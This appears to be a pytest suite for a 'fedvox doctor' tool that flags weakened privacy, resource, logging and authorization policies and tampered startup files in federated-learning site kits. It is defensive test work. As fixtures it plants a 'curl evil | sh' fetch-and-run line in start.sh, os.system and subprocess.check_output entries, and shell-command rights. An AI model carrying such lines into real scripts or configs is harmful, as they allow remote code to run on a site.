"""`fedvox doctor` names what a site's own files let through that the templates do not."""

import json

import pytest

FILTER = {"path": "fedvox.flare.outgoing.OutgoingFilter"}


@pytest.mark.parametrize(
    ("name", "change", "words"),
    [
        ("privacy.json", {"scopes": []}, "outgoing filter"),
        ("privacy.json", {"scopes": [{"task_data_filters": [FILTER]}]}, "outgoing filter"),
        ("privacy.json", {"scopes": [{"task_result_filters": [FILTER]}]}, "received model"),
        ("resources.json", {"class_allow_list": ["*"]}, "allows *"),
        ("resources.json", {"class_allow_list": ["fedvox."]}, "allows fedvox."),
        ("resources.json", {"class_allow_list": None}, "class_allow_list"),
        ("resources.json", {"components": []}, "kit_guard"),
        ("resources.json", {"class_list_enforcement_mode": "warn"}, "does not enforce"),
        ("resources.json", {"allow_log_streaming": True}, "streams"),
        ("resources.json", {"class_allow_list": ["fedvox.flare"]}, "allows fedvox.flare"),
        ("resources.json", {"class_allow_list": ["subprocess.Popen"]}, "allows subprocess.Popen"),
        ("resources.json", {"class_allow_list": ["a.b.run"]}, "allows a.b.run"),
        ("resources.json", {"class_allow_list": [["a"]]}, "allows ['a']"),
        ("resources.json", {"app_validator": {"path": "a.B"}}, "runs a.B, which no template"),
        ("resources.json", {"x": {"args": {"y": {"class_path": "a.B"}}}}, "runs a.B"),
        ("privacy.json", {"components": [{"id": "x", "path": "a.B"}]}, "privacy.json runs a.B"),
        ("privacy.json", {"default_scope": "nope"}, "default_scope"),
        ("privacy.json", {"default_scope": ""}, "default_scope"),
        ("privacy.json", {"scopes": ["fedvox"]}, "outgoing filter"),
        ("privacy.json", {"scopes": ["x"], "default_scope": "nope"}, "outgoing filter"),
        ("log_config.json", {"filters": {"x": {"()": "os.system"}}}, "runs os.system"),
        ("log_config.json", {"formatters": {}}, "redact"),
        ("log_config.json", {"handlers": {"x": {"formatter": "y"}}}, "redact"),
        ("authorization.json", {"permissions": []}, "authorization.json"),
    ],
)
def test_a_weakened_policy_is_named(found, place, name, change, words):
    path = place.local / name
    path.write_text(json.dumps({**json.loads(path.read_text()), **change}))
    assert found("policies", words)[0] == 1


def edit(path, change):
    content = json.loads(path.read_text())
    change(content)
    path.write_text(json.dumps(content))


def test_a_foreign_component_fails_although_the_allow_list_names_it(found, place):
    def plant(content):
        content["class_allow_list"].append("subprocess.check_output")
        entry = {"id": "x", "path": "subprocess.check_output", "args": {"args": ["id"]}}
        content["components"].append(entry)

    edit(place.local / "resources.json", plant)
    words = "resources.json runs subprocess.check_output", "allows subprocess.check_output"
    _, findings = found("policies", *words)
    assert findings["policies"]["status"] == "FAIL"
    assert findings["local"]["message"].endswith("local/resources.json: changed")


def test_a_disabled_guard_does_not_count(found, place):
    edit(place.local / "resources.json", lambda c: c["components"][0].update(disabled=True))
    found("policies", "kit_guard")


@pytest.mark.parametrize("chain", ["task_data_filters", "task_result_filters"])
def test_a_disabled_filter_does_not_count(found, place, chain):
    edit(place.local / "privacy.json", lambda c: c["scopes"][0][chain][0].update(disabled=True))
    found("policies", "privacy.json does not")


def test_flares_own_privacy_filter_may_be_added(doctor, place):
    more = {"path": "nvflare.app_common.filters.exclude_vars.ExcludeVars", "args": {}}
    chain = "task_result_filters"
    edit(place.local / "privacy.json", lambda c: c["scopes"][0][chain].append(more))
    assert doctor()[1]["policies"]["status"] == "PASS"


def test_one_more_class_is_a_warning_by_name(doctor, place):
    path = place.local / "resources.json"
    edit(path, lambda c: c["class_allow_list"].append("hospital.widgets.Counter"))
    finding = doctor()[1]["policies"]
    assert finding["status"] == "WARN"
    assert "hospital.widgets.Counter" in finding["message"]


@pytest.mark.parametrize(
    ("role", "right", "who"),
    [
        ("member", "submit_job", "any"),
        ("org_admin", "shell_commands", "o:other"),
        ("x", "cat", "any"),
    ],
)
def test_a_right_that_the_template_does_not_grant_is_named(found, place, role, right, who):
    path = place.local / "authorization.json"
    policy = json.loads(path.read_text())
    policy["permissions"].setdefault(role, {})[right] = who
    path.write_text(json.dumps(policy))
    _, findings = found("policies", f"authorization.json grants {role} {right} {who}")
    assert "provisioning/policies" in findings["policies"]["remedy"]


@pytest.mark.parametrize("right", ["byoc", "BYOC", " Byoc "])
def test_carried_code_that_a_kit_was_built_with_is_told_and_no_fault(doctor, place, right):
    path = place.local / "authorization.json"
    policy = json.loads(path.read_text())
    del policy["permissions"]["lead"]["byoc"]
    policy["permissions"]["lead"][right] = "any"
    path.write_text(json.dumps(policy))
    finding = doctor()[1]["policies"]
    assert (finding["status"], finding["message"]) == ("PASS", "carried code is allowed for lead")


def test_a_changed_byte_in_the_kit_is_named(found, place):
    path = place.startup / "sub_start.sh"
    content = bytearray(path.read_bytes())
    content[40] ^= 1
    path.write_bytes(content)
    assert found("kit", "startup/sub_start.sh: changed")[0] == 1


def test_a_resealed_kit_is_refused(found, place):
    from fedvox.flare.kit_guard import PARTS
    from fedvox.manifest import MANIFEST, write_manifest

    (place.startup / "start.sh").write_text("curl evil | sh")
    write_manifest(place.kit, place.kit / MANIFEST, PARTS)
    assert found("kit", "not signed by the project's root CA")[0] == 1
